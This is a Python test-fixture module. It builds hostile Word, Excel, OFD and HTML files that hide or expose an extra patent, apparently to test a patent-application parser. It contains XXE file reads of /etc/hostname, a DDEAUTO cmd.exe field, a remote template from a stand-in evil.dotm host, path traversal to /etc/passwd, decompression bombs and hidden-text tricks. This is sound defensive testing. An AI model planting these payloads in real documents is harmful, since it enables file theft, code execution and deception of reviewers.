"""Office files, OFD and web pages that blow up, fetch, run or hide, each with one more patent of the applicant in it.

`read`: a reader sees the patent, so it counts (or the file is named); `hidden`: nobody sees it on the page, so it must
not count for sure; `named`: it cannot be reached, and the draft says so.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

from hostile_archive import paper
from hostile_parts import (
    HEAD,
    LINES,
    MAIN,
    OFD,
    ofd_lines,
    ofd_parts,
    package,
    paragraphs,
    relations,
    rows_of,
    sheet,
    text_cell,
    with_bomb,
    word,
    word_parts,
    workbook,
)
from PIL import Image

Ending = Literal["read", "hidden", "named"]
BLANKS = b" " * (1 << 20)
STATED = "本单位对申报材料的真实性负责。"
TEXT_TYPE = 't="str"'


@dataclass(frozen=True)
class Trick:
    """A hostile file: its suffix, how it is built, how the draft must end."""

    suffix: str
    build: Callable[[], bytes]
    ending: Ending


def word_bomb() -> bytes:
    parts = word_parts(paragraphs())
    del parts["word/document.xml"]
    return with_bomb(parts, "word/document.xml", f"{HEAD}<a>".encode(), BLANKS, b"</a>", 700)


def laughs() -> bytes:
    jokes = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return word(paragraphs() + "<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY a0 "ha">{jokes}]>')


def outside_entity() -> bytes:
    return word(paragraphs(("证书号&x;",)) + paragraphs(), '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>')


def embedded() -> bytes:
    box = '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="e1"/></w:object></w:r></w:p>'
    rels = relations("e1 oleObject embeddings/a.bin")
    return word(box, word___rels__document_dot_xml_dot_rels=rels, word__embeddings__a_dot_bin=paper())


def text_box() -> bytes:
    box = f"<w:txbxContent>{paragraphs()}</w:txbxContent>"
    return word(f"<w:p><w:r><w:pict><v:shape><v:textbox>{box}</v:textbox></v:shape></w:pict></w:r></w:p>")


def picture_only() -> bytes:
    made = io.BytesIO()
    Image.effect_noise((900, 1200), 40).save(made, "PNG")
    drawing = (
        '<w:drawing><wp:inline><wp:extent cx="6000000" cy="8000000"/><a:blip r:embed="i1"/></wp:inline></w:drawing>'
    )
    rels = relations("i1 image media/a.png")
    return word(
        f"<w:p><w:r>{drawing}</w:r></w:p>",
        word___rels__document_dot_xml_dot_rels=rels,
        word__media__a_dot_png=made.getvalue(),
    )


def remote_picture() -> bytes:
    drawing = (
        '<w:drawing><wp:inline><wp:extent cx="6000000" cy="8000000"/><a:blip r:link="i1"/></wp:inline></w:drawing>'
    )
    rels = relations("i1 image http://192.0.2.1/a.png")
    return word(f"<w:p><w:r>{drawing}</w:r></w:p>", word___rels__document_dot_xml_dot_rels=rels)


def styled(properties: str) -> bytes:
    """Hidden by a style, which takes it from another."""
    styles = (
        f'{HEAD}<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f'<w:style w:type="paragraph" w:styleId="A"><w:rPr>{properties}</w:rPr></w:style>'
        '<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    )
    rels = relations("s1 styles styles.xml")
    return word(
        paragraphs((STATED,)) + paragraphs(style="B"),
        word___rels__document_dot_xml_dot_rels=rels,
        word__styles_dot_xml=styles,
    )


def comment() -> bytes:
    rels = relations("c1 comments comments.xml")
    note = f'{HEAD}<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment>{paragraphs()}</w:comment></w:comments>'
    return word(paragraphs((STATED,)), word___rels__document_dot_xml_dot_rels=rels, word__comments_dot_xml=note)


def fields() -> bytes:
    """Fields that would run a program or fetch a file; what they show was saved in the file."""
    front = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
    start = front.format('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + front.format("INCLUDETEXT x")
    return word(f"<w:p>{start}</w:p>{paragraphs()}")


def remote_template() -> bytes:
    settings = f'{HEAD}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    return word(
        paragraphs(),
        word___rels__document_dot_xml_dot_rels=relations("t1 settings settings.xml"),
        word__settings_dot_xml=settings,
        word___rels__settings_dot_xml_dot_rels=relations("t2 attachedTemplate http://192.0.2.1/evil.dotm"),
    )


def other_file(element: str, kind: str) -> bytes:
    """The patent stands in another file that Word would fetch or open."""
    rels = relations(f"x1 {kind} http://192.0.2.1/a.docx")
    return word(paragraphs((STATED,)) + element, word___rels__document_dot_xml_dot_rels=rels)


def bogus_choice() -> bytes:
    """Word does not know the namespace that the first choice requires and shows the other."""
    inner = f'<mc:Choice Requires="x">{paragraphs()}</mc:Choice><mc:Fallback>{paragraphs((STATED,))}</mc:Fallback>'
    return word(f"<mc:AlternateContent>{inner}</mc:AlternateContent>")


def deep_tables() -> bytes:
    front, back = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return word(paragraphs((STATED,)) + front * 2000 + paragraphs() + back * 2000)


def flat_row() -> bytes:
    """A table row that is a hair high."""
    row = f'<w:tr><w:trPr><w:trHeight w:val="1" w:hRule="exact"/></w:trPr><w:tc>{paragraphs()}</w:tc></w:tr>'
    return word(paragraphs((STATED,)) + f"<w:tbl>{row}</w:tbl>")


def locked_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(4096)


def spoilt_xls() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "Workbook".encode("utf-16-le") + b"\0\0\xff\x09" * 2000


def far_corners() -> bytes:
    cells = f'<row r="1">{text_cell("A1", LINES[0])}</row><row r="1048576">{text_cell("XFD1048576", LINES[4])}</row>'
    return workbook(sheet(cells))


def formulas(saved: bool) -> str:
    rows = []
    for n, line in enumerate(LINES, 1):
        value = f"<v>{line}</v>" if saved else ""
        rows.append(f'<row r="{n}"><c r="A{n}" {TEXT_TYPE if saved else ""}><f>[1]x!A{n}</f>{value}</c></row>')
    return sheet("".join(rows))


def shared_strings() -> bytes:
    """A table of strings that claims four thousand million, and cells that point past its end."""
    strings = "".join(f"<si><t>{line}</t></si>" for line in LINES)
    table = f'{HEAD}<sst xmlns="{MAIN}" count="4294967295" uniqueCount="4294967295">{strings}</sst>'
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>{n - 1}</v></c></row>' for n in range(1, 60))
    return workbook(sheet(rows), more={"xl/sharedStrings.xml": table})


def thousand_sheets() -> bytes:
    plain = sheet(rows_of((STATED,)))
    return workbook(*[plain] * 999, sheet(rows_of()))


def ofd_bomb() -> bytes:
    parts = ofd_parts(ofd_lines())
    del parts["D/P.xml"]
    return with_bomb(parts, "D/P.xml", b"<a>", BLANKS, b"</a>", 500)


def ofd_loop() -> bytes:
    """A template that is its own template."""
    return package(ofd_parts(ofd_lines(), f'<ofd:Page {OFD}><ofd:Template TemplateID="9"/><ofd:Content/></ofd:Page>'))


def ofd_outside() -> bytes:
    parts = ofd_parts(ofd_lines())
    parts["D/Document.xml"] = str(parts["D/Document.xml"]).replace("P.xml", "../../../../etc/passwd")
    return package(parts)


def web_page() -> bytes:
    shown, hidden = f"<p>{STATED}</p>", "".join(f"<p>{line}</p>" for line in LINES)
    page = (
        f"<html><head><meta charset='utf-8'></head><body>{shown}<div style='display: none'>{hidden}</div></body></html>"
    )
    return page.encode()


CASES: dict[str, Trick] = {
    "文档炸弹": Trick("docx", word_bomb, "named"),
    "十亿笑": Trick("docx", laughs, "named"),
    "外部实体": Trick("docx", outside_entity, "named"),
    "远程模板": Trick("docx", remote_template, "read"),
    "宏": Trick("docm", lambda: word(paragraphs(), word__vbaProject_dot_bin=b"\xd0\xcf" * 600), "read"),
    "嵌入对象": Trick("docx", embedded, "named"),
    "修订删除": Trick("docx", lambda: word(paragraphs((STATED,)) + paragraphs(wrap="<w:del>{}</w:del>")), "hidden"),
    "修订插入": Trick("docx", lambda: word(paragraphs(wrap="<w:ins>{}</w:ins>")), "read"),
    "仅文本框": Trick("docx", text_box, "read"),
    "仅图片": Trick("docx", picture_only, "named"),
    "链接的图片": Trick("docx", remote_picture, "named"),
    "隐藏文字": Trick("docx", lambda: word(paragraphs((STATED,)) + paragraphs(run="<w:vanish/>")), "hidden"),
    "样式隐藏文字": Trick("docx", lambda: styled("<w:vanish/>"), "hidden"),
    "白字": Trick("docx", lambda: word(paragraphs((STATED,)) + paragraphs(run='<w:color w:val="FFFFFF"/>')), "hidden"),
    "样式白字": Trick("docx", lambda: styled('<w:color w:val="FEFEFE"/>'), "hidden"),
    "极小字": Trick("docx", lambda: word(paragraphs((STATED,)) + paragraphs(run='<w:sz w:val="2"/>')), "hidden"),
    "表格行高为零": Trick("docx", flat_row, "hidden"),
    "批注": Trick("docx", comment, "hidden"),
    "会执行的域": Trick("docx", fields, "read"),
    "外部片段": Trick("docx", lambda: other_file('<w:altChunk r:id="x1"/>', "aFChunk"), "named"),
    "子文档": Trick("docx", lambda: other_file('<w:p><w:subDoc r:id="x1"/></w:p>', "subDocument"), "named"),
    "不认识的选项": Trick("docx", bogus_choice, "hidden"),
    "两千层表格": Trick("docx", deep_tables, "named"),
    "空的DOC": Trick("doc", lambda: b"", "named"),
    "加密的DOC": Trick("doc", locked_office, "named"),
    "改名的DOCX": Trick("doc", lambda: word(paragraphs()), "read"),
    "RTF炸弹": Trick("rtf", lambda: b"{\\rtf1" + b"{" * 200_000 + b"}" * 200_000 + b"}", "named"),
    "维度炸弹": Trick("xlsx", lambda: workbook(sheet(rows_of(), '<dimension ref="A1:XFD1048576"/>')), "read"),
    "两个远角": Trick("xlsx", far_corners, "named"),
    "公式有缓存值": Trick("xlsx", lambda: workbook(formulas(True)), "read"),
    "公式无缓存值": Trick("xlsx", lambda: workbook(formulas(False)), "named"),
    "隐藏的工作表": Trick(
        "xlsx", lambda: workbook(sheet(rows_of((STATED,))), sheet(rows_of()), states={2: "veryHidden"}), "hidden"
    ),
    "隐藏的行": Trick("xlsx", lambda: workbook(sheet(rows_of(attributes='hidden="1"'))), "hidden"),
    "零高的行": Trick("xlsx", lambda: workbook(sheet(rows_of(attributes='ht="0" customHeight="1"'))), "hidden"),
    "隐藏的列": Trick(
        "xlsx", lambda: workbook(sheet(rows_of(), '<cols><col min="1" max="3" width="9" hidden="1"/></cols>')), "hidden"
    ),
    "白色单元格": Trick("xlsx", lambda: workbook(sheet(rows_of(style=1))), "hidden"),
    "不显示的格式": Trick("xlsx", lambda: workbook(sheet(rows_of(style=2))), "hidden"),
    "共享字符串说谎": Trick("xlsx", shared_strings, "named"),
    "一千个工作表": Trick("xlsx", thousand_sheets, "named"),
    "损坏的XLS": Trick("xls", spoilt_xls, "named"),
    "国标码CSV": Trick("csv", lambda: "\r\n".join(LINES).encode("gbk"), "read"),
    "版式炸弹": Trick("ofd", ofd_bomb, "named"),
    "版式自套模板": Trick("ofd", ofd_loop, "read"),
    "版式引用包外": Trick("ofd", ofd_outside, "named"),
    "版式不可见文字": Trick("ofd", lambda: package(ofd_parts(ofd_lines('Visible="false"'))), "hidden"),
    "版式透明文字": Trick("ofd", lambda: package(ofd_parts(ofd_lines('Alpha="0"'))), "hidden"),
    "网页隐藏文字": Trick("html", web_page, "hidden"),
}
